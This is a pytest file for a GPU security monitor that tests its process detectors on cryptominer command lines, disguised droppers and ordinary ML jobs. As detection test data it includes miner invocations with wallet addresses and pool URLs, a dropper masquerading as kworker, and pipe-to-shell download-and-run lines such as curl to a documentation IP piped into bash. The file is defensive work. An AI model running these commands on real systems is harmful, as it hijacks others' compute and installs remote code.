"""Process detectors on realistic command lines of miner families, droppers and ordinary ML work."""

from __future__ import annotations

import pytest

from detectors.engine import Engine
from detectors.examples import proc
from detectors.process import _cmdline
from gpusentry import contract as c

XMR = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
ETH = "0x1f9090aaE28b8a3dCeaDf281B0F12828e676c326"


def findings(line: str, **kw) -> dict[str, str]:
    """rule id -> severity of what the process detectors raise on one process start."""
    engine = Engine(strict=True)
    ev = c.validate_or_raise(proc(line, **kw))
    out: dict[str, str] = {}
    for det in engine._by_dataset["gpusentry.process"]:
        for f in det.process(ev, det.new_state()):
            out[f.rule_id] = f.severity
    return out


# Miner families as their documentation shows them, most renamed to something innocent.
MINERS = [
    f"/tmp/.cache/xmrig -o pool.supportxmr.com:443 -u {XMR} -k --tls --donate-level 1",
    "/opt/svc/t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u RN9pYWZR2QXEUYGq1u2FGmFJz2BcePTEeg.rig -p x",
    f"/home/u/lolMiner --algo ETCHASH --pool etc.2miners.com:1010 --user {ETH}.rig --tls off",
    f"/home/u/bin/nbminer -a kawpow -o stratum+ssl://rvn.example.org:5555 -u {ETH}.w1",
    f"/srv/gminer/miner --algo kheavyhash --server kas.example.org:4444 --user kaspa:{'q' * 61}",
    f"/usr/local/bin/teamredminer -a autolykos2 -o stratum+tcp://erg.example.org:1800 -u 9{'h' * 50}",
    f"/data/bzminer -a kaspa -w kaspa:{'q' * 61} -p stratum+tcp://kas.example.org:3333",
    "/data/rigel -a karlsenhash -o stratum+ssl://kls.example.org:3333 -u karlsen:qqq -w rig1",
    f"/root/SRBMiner-MULTI --algorithm randomx --pool xmr.example.org:4444 --wallet {XMR}",
    f"/opt/ethminer -P stratum1+tcp://{ETH}.rig@eth.example.org:4444",
    "/usr/bin/python3 -m cuda_app --donate-level 0 -o nicehash+tcp://daggerhashimoto.eu.nicehash.com:3353",
    "/tmp/x -o zmp+tcp://pool.example.org:2222 -u abc",
    "/tmp/x -o stratum2+tcp://pool.example.org:34254/u/rig",
    "/tmp/x --url ethproxy+tcp://eth.example.org:8008 --user w",
    "/tmp/x -o stratum+tls://pool.example.org:443",
]


@pytest.mark.parametrize("line", MINERS)
def test_miner_families_by_flags_are_high(line):
    found = findings(line)
    assert found.get("process.miner_flags") == "high", found


BENIGN = [
    "/usr/bin/python3 train.py --epochs 90 --batch-size 256 --lr 0.1 -o /data/ckpt --cuda",
    "/opt/conda/bin/torchrun --nproc-per-node 8 train.py -c configs/llama.json",
    "/usr/bin/grep -r stratum+tcp:// /var/log/",
    "/usr/bin/vim xmrig.json",
    "/usr/bin/python3 -m pip download xmrig",
    "/usr/bin/curl -LO https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz",
    "/usr/bin/ssh -o ServerAliveInterval=30 -p 2222 user@bastion",
    "/usr/bin/ffmpeg -hwaccel cuda -i in.mp4 -c:v h264_nvenc -preset p4 -o out.mp4",
    "/usr/local/bin/gpu_burn -d 3600",
    "/usr/bin/nvidia-smi -q -d PERFORMANCE",
    "/usr/bin/python3 -c 'import torch; print(torch.cuda.is_available())'",
    "/usr/sbin/nginx -c /etc/nginx/nginx.conf",
    "/usr/bin/bash -c 'echo stratum+tcp://example is blocked by policy | logger'",
    "/usr/bin/hashcat -m 1000 -a 3 hashes.txt ?a?a?a?a",
    "/usr/bin/kubectl logs miner-detector-test -n security",
    "/home/ml/.local/bin/jupyter-lab --no-browser --port 8888",
]


@pytest.mark.parametrize("line", BENIGN)
def test_ordinary_work_raises_nothing_above_low(line):
    found = findings(line)
    assert all(sev == "low" for sev in found.values()), found


def test_a_lone_odd_path_is_low_and_a_disguised_dropper_is_high():
    assert findings("/tmp/build-42/tool --fast") == {"process.staging_path": "low"}
    dropper = findings("/dev/shm/.x/kworker -c /dev/shm/.x/c.json -B", name="kworker/1:1")
    assert dropper["process.miner_config"] == "high" and dropper["process.masquerade"] == "high"


def test_service_abuse_and_download_and_run():
    shadowray = findings("/bin/sh -c 'curl -s http://203.0.113.7/x.sh | bash'", parent="raylet")
    assert shadowray == {"process.service_spawn": "medium", "process.download_exec": "medium"}
    named = findings("bash -c 'wget -qO- http://203.0.113.7/xmrig.sh | sh'")
    assert named["process.download_exec"] == "high"


def test_shell_scripts_are_split_into_commands():
    args = _cmdline.split("sh -c 'cd /tmp && nohup ./a -o stratum+tcp://h:1 >/dev/null 2>&1 & echo ok'")
    segs = _cmdline.segments(args)
    assert ["./a", "-o", "stratum+tcp://h:1", ">/dev/null", "2>", "1"] in segs or \
        any(s[:3] == ["./a", "-o", "stratum+tcp://h:1"] for s in segs)
    assert ["echo", "ok"] in segs
    assert _cmdline.segments(_cmdline.split("sh -c 'unbalanced \"quote'")), "odd input still gives commands"


def test_secrets_on_command_lines_never_reach_findings():
    engine = Engine(strict=True)
    ev = c.validate_or_raise(proc("/tmp/m -o stratum+tcp://bob:hunter2@pool.example.org:3333 -u w -p s3cret "
                                  "--api-key=k3y", parent="gunicorn"))
    texts = []
    for det in engine._by_dataset["gpusentry.process"]:
        for f in det.process(ev, det.new_state()):
            texts += [f.message, str(f.fields)]
    assert texts and not any(s in t for t in texts for s in ("hunter2", "s3cret", "k3y"))
    assert _cmdline.redact("curl -H 'x' http://u:pw@h/ TOKEN=abc") == "curl -H 'x' http://u:***@h/ TOKEN=***"


def test_container_clis_that_run_programs_are_judged_by_their_args():
    assert findings("/usr/bin/docker run -d --gpus all img -o stratum+tcp://pool.example.org:3333")[
        "process.miner_flags"] == "high"
    assert "process.miner_flags" not in findings("/usr/bin/docker logs -f stratum+tcp://not-a-container")
    assert findings("/usr/bin/kubectl exec -it pod -- ./m -o stratum+ssl://pool.example.org:443")[
        "process.miner_flags"] == "high"


# ------------------------------------------------------------------ wrappers, container launches, known malware


@pytest.mark.parametrize("line, inner", [
    ("nohup ./xmrig -o x", ["./xmrig", "-o", "x"]),
    ("timeout -s KILL 3600 ./xmrig -c c.json", ["./xmrig", "-c", "c.json"]),
    ("taskset -c 0-3 nice -n 19 ./t-rex -a kawpow", ["./t-rex", "-a", "kawpow"]),
    ("screen -dmS miner ./xmrig --donate-level 1", ["./xmrig", "--donate-level", "1"]),
    ("screen -S x -dm bash -c './a -o stratum+tcp://p:1'", ["./a", "-o", "stratum+tcp://p:1"]),
    ("tmux new-session -d -s m './lolMiner --algo ETCHASH'", ["./lolMiner", "--algo", "ETCHASH"]),
    ("tmux send-keys -t m './xmrig -o p' Enter", ["./xmrig", "-o", "p"]),
    ("systemd-run --unit=helper --scope /tmp/.x/kdevtmpfsi", ["/tmp/.x/kdevtmpfsi"]),
    ("sudo -u nobody env X=1 setsid /dev/shm/.k/xmrig", ["/dev/shm/.k/xmrig"]),
    ("env -S './xmrig -o a'", ["./xmrig", "-o", "a"]),
    ("chrt -f 10 ionice -c 3 stdbuf -oL ./xmrig", ["./xmrig"]),
    ("taskset -p 0x1 1234", ["taskset", "-p", "0x1", "1234"]),  # changes a running process: not a launch
    ("screen -ls", ["screen", "-ls"]),
])
def test_wrappers_are_looked_inside(line, inner):
    from detectors.process._cmdline import segments, split

    assert segments(split(line)) == [inner]


@pytest.mark.parametrize("line, image, gpu", [
    ("docker run -d --gpus all --name w -e A=1 xmrig/xmrig:latest -o p:1", "xmrig/xmrig:latest", "--gpus all"),
    ("podman run --runtime=nvidia --rm -it img:1 sh", "img:1", "--runtime nvidia"),
    ("nerdctl container run --entrypoint /x/run alpine", "alpine", None),
    ("kubectl -n ml run job --image=ddsfdfsaadfs/dfsdf:99 --env=WALLET=x -- /w/a", "ddsfdfsaadfs/dfsdf:99", None),
    ("ctr -n k8s.io run --gpus 0 docker.io/a/b:1 id1 cmd", "docker.io/a/b:1", "--gpus 0"),
])
def test_container_launches_are_parsed(line, image, gpu):
    from detectors.process._cmdline import split
    from detectors.process.miner_container import container_launch

    launch = container_launch(split(line))
    assert launch is not None and launch.image == image and launch.gpu == gpu


@pytest.mark.parametrize("line", ["docker pull xmrig/xmrig", "docker ps -a", "kubectl get pods", "ctr images ls",
                                  "docker run", "kubectl run", "docker compose up -d"])
def test_container_commands_that_start_nothing_are_not_launches(line):
    from detectors.process._cmdline import split
    from detectors.process.miner_container import container_launch

    assert container_launch(split(line)) is None


def test_wrapper_and_container_parsing_never_raise_on_hostile_command_lines():
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from detectors.process._cmdline import segments
    from detectors.process.miner_container import container_launch, launch_evidence

    words = st.sampled_from(["docker", "run", "-e", "--gpus", "screen", "-dmS", "tmux", "new", "-d", "timeout",
                             "taskset", "-c", "env", "-S", "sudo", "-u", "kubectl", "--image", "--", "ctr", "=",
                             "nohup", "systemd-run", "--unit", "x", "", "-", "a=b", "send-keys", "Enter"])
    tokens = st.lists(st.one_of(words, st.text(max_size=8)), max_size=12)

    @settings(max_examples=300, deadline=None)
    @given(tokens)
    def check(args):
        for seg in segments(args):
            launch = container_launch(seg)
            if launch is not None:
                launch_evidence(launch)

    check()


@pytest.mark.parametrize(("old", "new", "message"), [
    ('names = ["ethproxy+tcp"', 'names = ["ethproxy+tcp://"', r"\[\[scheme\]\] 'ethproxy': 'ethproxy\+tcp://' is not a URL scheme"),
    ('id = "shared"\nrole = "weak"', 'id = "shared"\nrole = "feeble"',
     r"\[\[option\]\] 'shared': role 'feeble' is not one of pool, user"),
    ('names = ["--farm-recheck"', 'names = ["farm-recheck"', r"'ethminer': 'farm-recheck' is not an option as typed"),
    ('pattern = "0x[0-9a-fA-F]{40}"', 'pattern = "0x[0-9a-f"', r"\[\[wallet\]\] 'ethereum': `pattern` is not a regular"),
    ('pattern = "0x[0-9a-fA-F]{40}"', 'pattern = "(0x)?"', r"'ethereum': `pattern` matches the empty string"),
    ('id = "zmp"\nnames', 'id = "zmp"\nnamez', r"\[\[scheme\]\] entry \d+ \('zmp'\): `names` is missing"),
])
def test_the_miner_option_vocabulary_is_validated_with_the_entry_and_fix(tmp_path, old, new, message):
    from detectors.process._miner_options import OPTIONS_FILE, load
    from gpusentry.knowledge import KnowledgeError

    text = OPTIONS_FILE.read_text()
    assert old in text, "the test's edit must apply to the shipped file"
    bad = tmp_path / "miner_options.toml"
    bad.write_text(text.replace(old, new, 1))
    with pytest.raises(KnowledgeError, match=message):
        load(bad)


def test_the_miner_option_vocabulary_reads_every_role_and_format():
    """Each fact in the file is used: every scheme makes a pool URL, every role has options, every coin's
    address (with a COIN: prefix and a worker suffix) is a wallet."""
    from detectors.process._miner_options import OPTIONS

    for scheme in ("stratum+tcp", "ethproxy+tcp", "nicehash+ssl", "ethstratum2+tcp", "zmp", "stratum2+tls"):
        assert OPTIONS.pool_url.match(f"{scheme}://pool.example:3333"), scheme
    assert not OPTIONS.pool_url.match("https://pool.example:3333")
    assert all(OPTIONS.options[role] for role in ("pool", "user", "algorithm", "miner_only", "weak"))
    for address in ("RM2ciYa3CRqyreRsf25omrB4e1S95waALr.batch", "XMR:48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52"
                    "XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD.w1",
                    "dero1qyg62k4jx2yz775w3k4wh7gv3e68kf8vla702upgdskl6gr40wfggqqpck70r"):
        assert OPTIONS.wallet.match(address), address
    assert not OPTIONS.wallet.match("Hintuyul")


def test_the_miner_knowledge_file_is_validated_with_the_entry_and_key_to_fix(tmp_path):
    from detectors.process._miners import MINERS_FILE, load
    from gpusentry.knowledge import KnowledgeError

    bad = tmp_path / "miners.toml"
    bad.write_text(MINERS_FILE.read_text().replace('id = "t-rex"\nnames = ["t-rex"]\ncommon_names = ["trex"]\nsource',
                                                   'id = "t-rex"\nnames = ["t-rex"]\ncommon_names = ["trex"]\nsauce'))
    with pytest.raises(KnowledgeError, match=r"\[\[family\]\] entry \d+ \('t-rex'\): `source` is missing"):
        load(bad)
    assert load().family("T-Rex-0.26.8") == "t-rex"
